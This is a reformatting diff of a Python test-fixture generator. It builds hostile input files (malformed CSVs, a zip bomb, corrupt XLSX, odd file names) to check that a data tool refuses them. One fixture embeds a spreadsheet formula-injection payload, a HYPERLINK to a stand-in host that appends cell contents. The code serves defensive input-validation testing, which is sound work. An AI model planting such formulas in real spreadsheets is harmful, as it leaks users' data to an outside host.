@@ -261,7 +261,14 @@ def cases(include_heavy: bool = True) -> list[Case]:
     out = [
         # -- empty and structural
         Case("empty", "darien_empty.csv", d, "nonzero", lambda: b""),
-        Case("header_only", "darien_header_only.csv", d, "refused", lambda: b"toShow,year,total\n", says="no data rows"),
+        Case(
+            "header_only",
+            "darien_header_only.csv",
+            d,
+            "refused",
+            lambda: b"toShow,year,total\n",
+            says="no data rows",
+        ),
         Case(
             "header_then_blank_lines",
             "darien_blank.csv",
@@ -299,9 +306,18 @@ def cases(include_heavy: bool = True) -> list[Case]:
             lambda: replace_once(darien(), "Cuba,2021,17603", 'Cuba,2021,"17603').encode(),
         ),
         # -- delimiters and encodings
-        Case("semicolons", "darien_semicolon.csv", d, "unreadable", lambda: darien().replace(",", ";").encode()),
+        Case(
+            "semicolons", "darien_semicolon.csv", d, "unreadable", lambda: darien().replace(",", ";").encode()
+        ),
         Case("tabs", "darien_tabs.csv", d, "unreadable", lambda: darien().replace(",", "\t").encode()),
-        Case("latin1", "darien_latin1.csv", d, "unreadable", lambda: darien().encode("latin-1"), says="not valid"),
+        Case(
+            "latin1",
+            "darien_latin1.csv",
+            d,
+            "unreadable",
+            lambda: darien().encode("latin-1"),
+            says="not valid",
+        ),
         Case(
             "utf16le_bom",
             "darien_utf16le.csv",
@@ -396,7 +412,10 @@ def cases(include_heavy: bool = True) -> list[Case]:
             "darien_utf16_big.csv",
             d,
             "nonzero",
-            lambda: codecs.BOM_UTF16_LE + ("toShow,year,total\n" + "Cuba,2019,1\n" * 1_700_000).encode("utf-16-le"),
+            lambda: (
+                codecs.BOM_UTF16_LE
+                + ("toShow,year,total\n" + "Cuba,2019,1\n" * 1_700_000).encode("utf-16-le")
+            ),
             heavy=True,
         ),
         Case(
@@ -429,9 +448,17 @@ def cases(include_heavy: bool = True) -> list[Case]:
             "Asylum_Gender_broken.xlsx",
             k,
             "unreadable",
-            lambda: _rezip({**canada_members(), "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"}),
+            lambda: _rezip(
+                {**canada_members(), "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"}
+            ),
         ),
-        Case("xls_junk", "Asylum_Gender_ole.xlsx", k, "unreadable", lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 4096),
+        Case(
+            "xls_junk",
+            "Asylum_Gender_ole.xlsx",
+            k,
+            "unreadable",
+            lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 4096,
+        ),
         Case(
             "zip_bomb_declared",
             "Asylum_Gender_bomb.xlsx",
@@ -501,7 +528,9 @@ def cases(include_heavy: bool = True) -> list[Case]:
             "darien_dupes.csv",
             d,
             "refused",
-            lambda: replace_once(darien(), "Cuba,2021,17603\n", "Cuba,2021,17603\nCuba,2021,17603\n").encode(),
+            lambda: replace_once(
+                darien(), "Cuba,2021,17603\n", "Cuba,2021,17603\nCuba,2021,17603\n"
+            ).encode(),
             says="duplicate",
         ),
         Case(
@@ -586,7 +615,9 @@ def cases(include_heavy: bool = True) -> list[Case]:
             "darien_formula.csv",
             d,
             "refused",
-            lambda: replace_once(darien(), "Cuba,2021", '"=HYPERLINK(""http://x.example/?""&A1,""Cuba"")",2021').encode(),
+            lambda: replace_once(
+                darien(), "Cuba,2021", '"=HYPERLINK(""http://x.example/?""&A1,""Cuba"")",2021'
+            ).encode(),
         ),
         Case(
             "formula_label_detail_eq",
@@ -661,7 +692,9 @@ def cases(include_heavy: bool = True) -> list[Case]:
             "sbo-encounters-births.csv",
             c,
             "refused",
-            lambda: cbp_with("Component", 40, lambda i: f"{1970 + i % 30}-{1 + i % 12:02d}-{3 + i % 25:02d}").encode(),
+            lambda: cbp_with(
+                "Component", 40, lambda i: f"{1970 + i % 30}-{1 + i % 12:02d}-{3 + i % 25:02d}"
+            ).encode(),
             says="person-level",
             keep_out=("1970-01-03", "1971-02-04"),
         ),
@@ -683,7 +716,9 @@ def cases(include_heavy: bool = True) -> list[Case]:
         ("name_glob", "darien*?[a].csv"),
         ("name_invalid_utf8", "darien_\udcff\udcfe.csv"),
     ):
-        expect, says = ("unreadable", "not valid UTF-8") if name == "name_invalid_utf8" else ("refused", "formula")
+        expect, says = (
+            ("unreadable", "not valid UTF-8") if name == "name_invalid_utf8" else ("refused", "formula")
+        )
         out.append(Case(name, file_name, d, expect, lambda body=formula: body.encode(), says=says))
     return [case for case in out if include_heavy or not case.heavy]
 
@@ -741,7 +776,9 @@ def build(folder: Path, include_heavy: bool = True) -> list[Case]:
 if __name__ == "__main__":
     target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
     for case in build(target, include_heavy="--light" not in sys.argv):
-        print(f"{case.name:28} {case.source:26} {case.expect:10} {case.path.stat().st_size:>12}  {case.file_name!r}")
+        print(
+            f"{case.name:28} {case.source:26} {case.expect:10} {case.path.stat().st_size:>12}  {case.file_name!r}"
+        )
 
 
 # ---------------------------------------------------------------------------- running omh
@@ -813,7 +850,10 @@ def run_omh(args: list[str], env: dict[str, str], work: Path, timeout: float = 3
         "timeout": timeout,
     }
     launched = subprocess.run(
-        [sys.executable, "-c", _LAUNCHER, json.dumps(spec)], capture_output=True, text=True, timeout=timeout + 60
+        [sys.executable, "-c", _LAUNCHER, json.dumps(spec)],
+        capture_output=True,
+        text=True,
+        timeout=timeout + 60,
     )
     meta = json.loads(launched.stdout.strip().splitlines()[-1])
     return Run(
